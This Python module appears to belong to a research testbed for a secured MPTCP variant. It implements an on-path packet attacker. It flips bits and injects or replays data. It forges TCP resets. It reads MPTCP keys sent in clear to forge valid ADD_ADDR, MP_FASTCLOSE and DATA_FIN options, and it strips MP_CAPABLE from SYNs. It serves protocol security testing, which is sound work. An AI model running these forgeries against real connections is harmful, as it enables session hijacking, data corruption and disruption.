"""A record-unaware, packet-level on-path attacker (decisions only; ``stage`` does the I/O).

It sees the IPv4 packets a router forwards, as an on-path attacker would, and strikes once
after ``after_bytes`` of TCP payload have crossed the path in ``direction``. Generic attacks
(bit flip, injection, replay, drop, RST) work on any TCP stream; the MPTCP-aware forgeries
(RFC 7430's threats) use what RFC 8684 leaves in clear: the keys in the MP_CAPABLE exchange,
data sequence numbers in DSS. Against mptcpsec's subflows (plain TCP, every signal inside an
authenticated record) they find nothing to read and their forged options mean nothing.

Every change is recorded as an ``Change`` with the packet number (1-based, in the order the
router saw packets), so a report can say exactly what the attacker did.
"""

from __future__ import annotations

import hashlib
import hmac
import os
import socket
import struct
from dataclasses import asdict, dataclass, field
from typing import Any

from scapy.layers.inet import IP, TCP
from scapy.packet import Raw

from .names import ATTACKS, GENERIC, MPTCP_AWARE

__all__ = ["ATTACKS", "GENERIC", "MPTCP_AWARE", "Action", "AttackConfig", "Attacker"]
#: the address a forged ADD_ADDR announces (a documentation address nobody holds)
ATTACKER_ADDR = "203.0.113.66"
MPTCP_KIND = 30
CLIENT_NET = "192.0.2."


@dataclass
class AttackConfig:
    """One attack: what, when (after this many payload bytes in ``direction``)."""

    name: str = "bitflip"
    after_bytes: int = 200_000
    direction: str = "c2s"
    drop_seconds: float = 1.0

    def __post_init__(self) -> None:
        if self.name not in ATTACKS:
            raise ValueError(f"unknown attack {self.name!r} (choose from {', '.join(ATTACKS)})")
        if self.direction not in ("c2s", "s2c"):
            raise ValueError("direction is c2s or s2c")


@dataclass
class Change:
    """One thing the attacker did to packet ``packet`` (or injected after it)."""

    packet: int
    action: str
    detail: str
    flow: str


@dataclass
class Action:
    """The verdict on one packet: accept (maybe rewritten) or drop, plus forged packets to
    send after it."""

    drop: bool = False
    payload: bytes | None = None
    inject: list[bytes] = field(default_factory=list)
    #: forged packets of the other direction, queued behind its held packets
    inject_reverse: list[bytes] = field(default_factory=list)


@dataclass
class _Flow:
    isn: int | None = None
    payload_bytes: int = 0
    keys: list[bytes] = field(default_factory=list)  # [sender's, receiver's] from MP_CAPABLE
    last_dsn_end: int | None = None
    last_data_ack: int | None = None
    mptcp: bool = False
    history: list[bytes] = field(default_factory=list)
    #: the latest (TSval, TSecr) this way: forged segments must pass PAWS
    ts: tuple[int, int] | None = None
    #: the next sequence number, the latest ACK and window this way (for forgeries)
    snd_nxt: int | None = None
    ack: int = 0
    window: int = 0


def mptcp_options(tcp: TCP) -> list[bytes]:
    """The raw bytes (after kind and length) of every kind-30 option of ``tcp``."""
    out = []
    for opt in tcp.options:
        kind, value = opt[0], opt[1]
        if kind == MPTCP_KIND or kind == "MPTCP":
            out.append(bytes(value) if isinstance(value, (bytes, bytearray)) else b"")
    return out


def subtype(value: bytes) -> int:
    return value[0] >> 4 if value else -1


def _raw_options(tcp: TCP) -> list[tuple[Any, Any]]:
    """Options as scapy keeps them, kind-30 ones as raw bytes."""
    return [tuple(o) for o in tcp.options]


def _ts_option(fwd: _Flow | None, rev: _Flow | None) -> list[tuple[Any, Any]]:
    """A timestamp option as the sender would write it now: its latest TSval, echoing the
    peer's latest TSval (so the forgery is not dropped as an old duplicate by PAWS)."""
    if fwd is None or fwd.ts is None:
        return []
    ecr = rev.ts[0] if rev is not None and rev.ts is not None else fwd.ts[1]
    return [("NOP", None), ("NOP", None), ("Timestamp", (fwd.ts[0], ecr))]


def add_addr_hmac(key_a: bytes, key_b: bytes, addr_id: int, addr: str) -> bytes:
    """RFC 8684 §3.4.1: HMAC-SHA256(Key-A || Key-B, id || address || port), rightmost 64
    bits; without a port in the option the message still carries two zero octets."""
    msg = bytes([addr_id]) + bytes(int(x) for x in addr.split(".")) + b"\0\0"
    return hmac.new(key_a + key_b, msg, hashlib.sha256).digest()[-8:]


@dataclass
class _Head:
    """The IPv4 and TCP header fields the attacker needs, read with ``struct``."""

    src: str
    dst: str
    sport: int
    dport: int
    seq: int
    ack: int
    flags: int
    window: int
    payload_off: int
    total_len: int
    mptcp: list[bytes]
    ts: tuple[int, int] | None = None

    @property
    def key(self) -> tuple[str, int, str, int]:
        return (self.src, self.sport, self.dst, self.dport)

    @property
    def reverse(self) -> tuple[str, int, str, int]:
        return (self.dst, self.dport, self.src, self.sport)

    @property
    def direction(self) -> str:
        return "c2s" if self.src.startswith(CLIENT_NET) else "s2c"

    @property
    def flow(self) -> str:
        return f"{self.src}:{self.sport}>{self.dst}:{self.dport}"

    @classmethod
    def parse(cls, raw: bytes) -> _Head | None:
        if len(raw) < 40 or raw[0] >> 4 != 4 or raw[9] != 6:
            return None
        ihl = (raw[0] & 0x0F) * 4
        total = int.from_bytes(raw[2:4], "big")
        if len(raw) < ihl + 20 or total > len(raw):
            return None
        sport, dport, seq, ack = struct.unpack_from("!HHII", raw, ihl)
        window = int.from_bytes(raw[ihl + 14:ihl + 16], "big")
        doff = (raw[ihl + 12] >> 4) * 4
        flags = raw[ihl + 13]
        mptcp: list[bytes] = []
        ts = None
        i, end = ihl + 20, min(ihl + doff, total)
        while i < end:  # TCP options: keep the kind-30 ones
            kind = raw[i]
            if kind == 0:
                break
            if kind == 1:
                i += 1
                continue
            if i + 1 >= end or raw[i + 1] < 2:
                break
            ln = raw[i + 1]
            if kind == MPTCP_KIND:
                mptcp.append(raw[i + 2:i + ln])
            elif kind == 8 and ln == 10 and i + 10 <= end:
                ts = struct.unpack_from("!II", raw, i + 2)
            i += ln
        return cls(socket.inet_ntoa(raw[12:16]), socket.inet_ntoa(raw[16:20]), sport, dport,
                   seq, ack, flags, window, ihl + doff, total, mptcp, ts)


class Attacker:
    """Feed it every forwarded packet (``handle``); it strikes once and logs ``changes``."""

    def __init__(self, cfg: AttackConfig | None) -> None:
        self.cfg = cfg
        self.packets = 0
        self.changes: list[Change] = []
        self.flows: dict[tuple[str, int, str, int], _Flow] = {}
        self.sent_bytes = {"c2s": 0, "s2c": 0}
        self.done = False
        self.dropping_until: float | None = None
        self.mptcp_seen = False
        self.joins_to: list[dict[str, Any]] = []

    # ---- bookkeeping ----------------------------------------------------------------
    def _flow(self, key: tuple[str, int, str, int]) -> _Flow:
        fl = self.flows.get(key)
        if fl is None:
            fl = self.flows[key] = _Flow()
        return fl

    def _learn(self, h: _Head, fl: _Flow, payload: bytes) -> None:
        syn, ack = bool(h.flags & 0x02), bool(h.flags & 0x10)
        if syn:
            fl.isn = h.seq
        for value in h.mptcp:
            fl.mptcp = self.mptcp_seen = True
            st = subtype(value)
            if st == 0 and len(value) >= 18:  # MP_CAPABLE third ACK: both keys in clear
                fl.keys = [value[2:10], value[10:18]]
                rev = self.flows.get(h.reverse)
                if rev is not None:
                    rev.keys = [value[10:18], value[2:10]]
            elif st == 0 and len(value) >= 10 and syn and ack:
                fl.keys = [value[2:10]]
            elif st == 2:
                self._learn_dss(value, fl)
            elif st == 1 and syn and not ack and h.dst == ATTACKER_ADDR:
                self.joins_to.append({"packet": self.packets, "from": h.src, "to": h.dst})
        if payload:
            fl.payload_bytes += len(payload)
            if len(fl.history) < 64:
                fl.history.append(payload)

    @staticmethod
    def _learn_dss(value: bytes, fl: _Flow) -> None:
        flags = value[1]
        off = 2
        if flags & 0x01:
            n = 8 if flags & 0x02 else 4
            fl.last_data_ack = int.from_bytes(value[off:off + n], "big")
            off += n
        if flags & 0x04:
            n = 8 if flags & 0x08 else 4
            if len(value) >= off + n + 6:
                dsn = int.from_bytes(value[off:off + n], "big")
                dlen = int.from_bytes(value[off + n + 4:off + n + 6], "big")
                fl.last_dsn_end = dsn + dlen

    def _ts(self, ip: IP, tcp: TCP, reverse: bool) -> list[tuple[Any, Any]]:
        fwd = self.flows.get((ip.src, tcp.sport, ip.dst, tcp.dport))
        rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport))
        return _ts_option(rev, fwd) if reverse else _ts_option(fwd, rev)

    def _log(self, action: str, detail: str, ip: IP, tcp: TCP) -> None:
        self.changes.append(Change(self.packets, action, detail,
                                   f"{ip.src}:{tcp.sport}>{ip.dst}:{tcp.dport}"))

    # ---- the decision ---------------------------------------------------------------
    def handle(self, raw: bytes, now: float) -> Action:
        """Decide on one IPv4 packet (``raw``), seen at time ``now`` (seconds).

        Headers are read with ``struct`` (the stage must keep up with the path's packet
        rate); scapy is used only to rewrite or forge a packet.
        """
        self.packets += 1
        h = _Head.parse(raw)
        if h is None:
            return Action()
        payload = raw[h.payload_off:h.total_len]
        fl = self._flow(h.key)
        if h.ts is not None:
            fl.ts = h.ts
        end = (h.seq + len(payload) + (1 if h.flags & 0x03 else 0)) & 0xFFFFFFFF
        if fl.snd_nxt is None or ((end - fl.snd_nxt) & 0xFFFFFFFF) < 0x80000000:
            fl.snd_nxt = end
        if h.flags & 0x10:
            fl.ack, fl.window = h.ack, h.window
        cfg = self.cfg
        if (cfg is not None and cfg.name == "strip-mpc" and not self.done
                and h.flags & 0x12 == 0x02 and h.direction == "c2s"
                and any(subtype(v) == 0 for v in h.mptcp)):
            self._learn(h, fl, payload)
            return self._strip(IP(raw))
        if h.mptcp or payload or h.flags & 0x02:
            self._learn(h, fl, payload)
        self.sent_bytes[h.direction] += len(payload)
        if self.dropping_until is not None:
            if now < self.dropping_until:
                self.changes.append(Change(self.packets, "drop",
                                           f"{len(payload)} payload bytes", h.flow))
                return Action(drop=True)
            self.dropping_until = None
        if (cfg is None or self.done or cfg.name == "strip-mpc" or h.direction != cfg.direction
                or not payload or self.sent_bytes[h.direction] < cfg.after_bytes):
            return Action()
        ip = IP(raw)
        act = self._strike(cfg, ip, ip[TCP], fl, payload, now)
        if act is not None:
            self.done = True
            return act
        return Action()

    def _strip(self, ip: IP) -> Action:
        tcp = ip[TCP]
        opts = _raw_options(tcp)
        kept = [o for o in opts if not ((o[0] == MPTCP_KIND or o[0] == "MPTCP")
                                        and subtype(bytes(o[1])) == 0)]
        tcp.options = kept
        self._log("strip-mpc", "MP_CAPABLE removed from the SYN", ip, tcp)
        self.done = True
        return Action(payload=_fix(ip))

    def _strike(self, cfg: AttackConfig, ip: IP, tcp: TCP, fl: _Flow, payload: bytes,
                now: float) -> Action | None:
        name = cfg.name
        if name == "bitflip":
            pos = len(payload) // 2
            new = bytearray(payload)
            new[pos] ^= 0x01
            tcp.remove_payload()
            tcp.add_payload(Raw(bytes(new)))
            self._log("bitflip", f"bit 0 of payload byte {pos} of {len(payload)} "
                      f"(subflow seq {tcp.seq + pos}); checksums fixed", ip, tcp)
            return Action(payload=_fix(ip))
        if name == "replay":
            old = next((h for h in fl.history[:-1] if h != payload), None)
            if old is None:
                return None
            new = (old * (len(payload) // len(old) + 1))[:len(payload)]
            tcp.remove_payload()
            tcp.add_payload(Raw(new))
            self._log("replay", f"{len(payload)} bytes replaced by earlier bytes of the "
                      "same flow (fresh sequence numbers)", ip, tcp)
            return Action(payload=_fix(ip))
        if name == "drop":
            self.dropping_until = now + cfg.drop_seconds
            self._log("drop", f"{len(payload)} payload bytes; every packet of this path "
                      f"for {cfg.drop_seconds:g} s", ip, tcp)
            return Action(drop=True)
        seq_next = tcp.seq + len(payload)
        if name == "inject":
            forged = os.urandom(512)
            pkt = (IP(src=ip.src, dst=ip.dst, id=ip.id + 1)
                   / TCP(sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack,
                         flags="PA", window=tcp.window, options=self._ts(ip, tcp, False))
                   / Raw(forged))
            self._log("inject", f"512 forged bytes at subflow seq {seq_next} (in window, "
                      "right after this segment)", ip, tcp)
            return Action(inject=[bytes(pkt)])
        if name in ("rst", "mp-tcprst"):
            opts: list[tuple[Any, Any]] = []
            if name == "mp-tcprst":
                opts = [(MPTCP_KIND, bytes([0x80, 0x05]))]  # MP_TCPRST, reason 5: too slow
                if not fl.mptcp:
                    self._log("mp-tcprst", "no MPTCP on this flow: a plain RST with the "
                              "option", ip, tcp)
            to_rcv = (IP(src=ip.src, dst=ip.dst) / TCP(sport=tcp.sport, dport=tcp.dport,
                                                       seq=seq_next, flags="R", options=opts))
            to_snd = (IP(src=ip.dst, dst=ip.src) / TCP(sport=tcp.dport, dport=tcp.sport,
                                                       seq=tcp.ack, flags="R", options=opts))
            self._log(name, f"RST to both ends (seq {seq_next} and {tcp.ack})", ip, tcp)
            return Action(inject=[bytes(to_rcv), bytes(to_snd)])
        # the MPTCP-aware forgeries need MPTCP on this flow, some need its keys
        if not fl.mptcp:
            self._log("nothing", f"{name}: no MPTCP option in clear on this flow, nothing to "
                      "read or forge", ip, tcp)
            return Action()
        if name in ("add-addr", "remove-addr", "mp-prio"):
            rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport), _Flow())
            if name == "add-addr":
                if len(rev.keys) < 2:
                    self._log("nothing", f"{name}: no keys seen (MP_CAPABLE not on this path)",
                              ip, tcp)
                    return Action()
                mac = add_addr_hmac(rev.keys[0], rev.keys[1], 9, ATTACKER_ADDR)
                value = bytes([0x30, 9]) + bytes(int(x) for x in ATTACKER_ADDR.split(".")) + mac
                detail = (f"ADD_ADDR id 9 {ATTACKER_ADDR} with the HMAC computed from the "
                          "keys read in MP_CAPABLE")
            elif name == "remove-addr":
                value = bytes([0x40, 0])
                detail = "REMOVE_ADDR of address id 0 (the server's initial address)"
            else:
                value = bytes([0x51])
                detail = "MP_PRIO backup=1 for this subflow"
            # towards the sender of this segment, as if from its peer, in the peer's
            # sequence space as the router last saw it (queued behind the peer's segments)
            pkt = (IP(src=ip.dst, dst=ip.src)
                   / TCP(sport=tcp.dport, dport=tcp.sport,
                         seq=rev.snd_nxt if rev.snd_nxt is not None else tcp.ack,
                         ack=rev.ack or seq_next, flags="A", window=rev.window or tcp.window,
                         options=[*self._ts(ip, tcp, True), (MPTCP_KIND, value)]))
            self._log(name, detail + f"; forged to {ip.src}", ip, tcp)
            return Action(inject_reverse=[bytes(pkt)])
        if name == "mp-fastclose":
            if len(fl.keys) < 2:
                self._log("nothing", f"{name}: no keys seen (MP_CAPABLE not on this path)",
                          ip, tcp)
                return Action()
            value = bytes([0x70, 0]) + fl.keys[1]
            pkt = (IP(src=ip.src, dst=ip.dst) / TCP(
                sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack, flags="A",
                window=tcp.window, options=[*self._ts(ip, tcp, False), (MPTCP_KIND, value)]))
            rst = (IP(src=ip.src, dst=ip.dst) / TCP(sport=tcp.sport, dport=tcp.dport,
                                                    seq=seq_next, flags="R"))
            self._log(name, f"MP_FASTCLOSE with the receiver's key {fl.keys[1].hex()} "
                      f"(read in MP_CAPABLE) to {ip.dst}", ip, tcp)
            return Action(inject=[bytes(pkt), bytes(rst)])
        if name == "data-fin":
            rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport), _Flow())
            if fl.last_dsn_end is None or rev.last_data_ack is None:
                return None  # wait for a mapping this way and a DATA_ACK the other way
            # the receiver's next expected data seq: its latest DATA_ACK, or our latest
            # mapping's end if that is further (the other subflows carry data too)
            dsn = max(fl.last_dsn_end, rev.last_data_ack)
            dack = fl.last_data_ack or 0
            value = bytes([0x20, 0x1F]) + struct.pack("!QQIH", dack, dsn, 0, 1)
            pkt = (IP(src=ip.src, dst=ip.dst) / TCP(
                sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack, flags="A",
                window=tcp.window, options=[*self._ts(ip, tcp, False), (MPTCP_KIND, value)]))
            self._log(name, f"DATA_FIN at data seq {dsn} to {ip.dst}", ip, tcp)
            return Action(inject=[bytes(pkt)])
        return None

    def report(self) -> dict[str, Any]:
        return {"attack": asdict(self.cfg) if self.cfg else None, "packets": self.packets,
                "struck": self.done or bool(self.changes),
                "changes": [asdict(c) for c in self.changes],
                "mptcp_seen": self.mptcp_seen, "joins_to_attacker": self.joins_to,
                "payload_bytes": self.sent_bytes}


def _fix(ip: IP) -> bytes:
    """Re-serialise with fresh lengths and checksums (IP and TCP)."""
    del ip.len, ip.chksum
    del ip[TCP].chksum
    if ip[TCP].dataofs is not None:
        del ip[TCP].dataofs
    return bytes(ip)
